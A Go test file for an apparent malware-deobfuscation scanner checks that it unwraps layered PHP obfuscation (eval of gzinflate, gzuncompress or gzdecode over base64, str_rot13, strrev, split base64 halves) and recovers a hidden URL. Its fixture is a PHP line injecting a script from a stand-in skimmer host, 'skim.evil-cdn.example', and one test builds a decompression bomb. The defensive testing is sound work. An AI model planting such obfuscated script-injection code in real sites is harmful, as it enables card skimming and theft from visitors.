package decode

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"testing"
)

const phpPayload = "<?php $u='https://skim.evil-cdn.example/c.js'; echo \"<script src='$u'></script>\"; ?>"

func deflate(s string) []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, 9)
	w.Write([]byte(s))
	w.Close()
	return b.Bytes()
}

func zlibc(s string) []byte {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.Bytes()
}

func gzipc(s string) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.Bytes()
}

func b64b(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

func rot13(s string) string { return string(Shift([]byte(s), 13)) }

func TestPHPChain(t *testing.T) {
	t.Parallel()
	tests := []familyCase{
		{name: "gzinflate base64", in: "<?php eval(gzinflate(base64_decode('" + b64b(deflate(phpPayload)) + "'))); ?>", chain: "php-chain", text: "https://skim.evil-cdn.example/c.js", at: "gzinflate(base64_decode('" + b64b(deflate(phpPayload)) + "'))"},
		{name: "gzuncompress", in: "<?php eval(gzuncompress(base64_decode(\"" + b64b(zlibc(phpPayload)) + "\"))); ?>", chain: "php-chain", text: "skim.evil-cdn.example"},
		{name: "gzdecode", in: "<?php eval(gzdecode(base64_decode('" + b64b(gzipc(phpPayload)) + "'))); ?>", chain: "php-chain", text: "skim.evil-cdn.example"},
		{name: "rot13 inside", in: "<?php eval(gzinflate(base64_decode(str_rot13('" + rot13(b64b(deflate(phpPayload))) + "')))); ?>", chain: "php-chain", text: "skim.evil-cdn.example"},
		{name: "rot13 alone", in: "<?php $u = str_rot13('" + rot13(testURL) + "'); ?>", chain: "php-chain", text: testURL},
		{name: "twice", in: "<?php eval(gzinflate(base64_decode(gzinflate(base64_decode('" + b64b(deflate(b64b(deflate(phpPayload)))) + "'))))); ?>", chain: "php-chain", text: "skim.evil-cdn.example"},
		{name: "layered inside", in: "<?php eval(gzinflate(base64_decode('" + b64b(deflate("<?php eval(gzinflate(base64_decode('"+b64b(deflate(phpPayload))+"'))); ?>")) + "'))); ?>", chain: "php-chain>php-chain", text: "skim.evil-cdn.example"},
		{name: "strrev outside", in: "<?php $u = strrev(gzinflate(base64_decode('" + b64b(deflate(rev(testURL))) + "'))); ?>", chain: "php-chain>reversed", text: testURL},

		{name: "decoded halves", in: "<?php $u = base64_decode('" + b64(testURL[:13]) + "').base64_decode('" + b64(testURL[13:]) + "'); ?>", chain: "php-chain", text: testURL},
		{name: "decoded half and a variable", in: "<?php\n$d = base64_decode(\"" + b64(testURL[13:]) + "\");\n$u = base64_decode(\"" + b64(testURL[:13]) + "\").$d;\n", chain: "php-chain", text: testURL, at: "base64_decode(\"" + b64(testURL[:13]) + "\").$d"},
		{name: "variable first", in: "<?php $h = base64_decode('" + b64(testURL[:13]) + "'); $u = $h . base64_decode('" + b64(testURL[13:]) + "');", chain: "php-chain", text: testURL},
		{name: "plain variable", in: "<?php $d = 'evil-cdn.example/c.js'; $u = base64_decode('" + b64(testURL[:13]) + "') . $d;", chain: "php-chain", text: testURL},
		{name: "appended variable", in: "<?php $d = base64_decode('" + b64(testURL[:13]) + "'); $d .= base64_decode('" + b64(testURL[13:20]) + "'); $u = $d . '" + testURL[20:] + "';", chain: "php-chain", text: testURL},
		{name: "literal and a decoded half", in: "<?php $u = 'https://skim.' . base64_decode('" + b64(testURL[13:]) + "');", chain: "php-chain", text: testURL},
		{name: "rot13 halves", in: "<?php $u = str_rot13('" + rot13(testURL[:13]) + "').str_rot13('" + rot13(testURL[13:]) + "');", chain: "php-chain", text: testURL},

		{name: "not compressed", in: "<?php eval(gzinflate(base64_decode('" + b64(phpPayload) + "'))); ?>"},
		{name: "variable", in: "<?php eval(gzinflate(base64_decode($payload))); ?>"},
		{name: "function name in prose", in: "// uses gzinflate to save space"},
		{name: "echo of a decoded variable", in: "<?php $u = base64_decode('" + b64(testURL) + "'); echo '<script src=\"'.$u.'\"></script>'; ?>"},
		{name: "unknown variable", in: "<?php $u = base64_decode('" + b64(testURL[:13]) + "').$d; ?>"},
		{name: "variable assigned a partial expression", in: "<?php $d = base64_decode('" + b64(testURL[13:]) + "') . $x . 'y'; $u = base64_decode('" + b64(testURL[:13]) + "').$d; ?>"},
		{name: "comparison is no assignment", in: "<?php if ($d == base64_decode('" + b64(testURL[13:]) + "')) { $u = base64_decode('" + b64(testURL[:13]) + "').$d; } ?>"},
	}
	runFamily(t, PHPChain, tests)
}

func TestInflateBudget(t *testing.T) {
	t.Parallel()
	bomb := deflate(string(make([]byte, 1<<20)))
	in := "<?php eval(gzinflate(base64_decode('" + b64b(bomb) + "'))); ?>"
	spans, truncated := Spans([]byte(in), Options{Budget: 64 << 10})
	if !truncated {
		t.Errorf("Spans(bomb, Budget 64 KiB) truncated = false, want true")
	}
	for _, s := range spans {
		if len(s.Text) > 64<<10 {
			t.Errorf("Spans(bomb, Budget 64 KiB) gave a %d-byte span", len(s.Text))
		}
	}
}
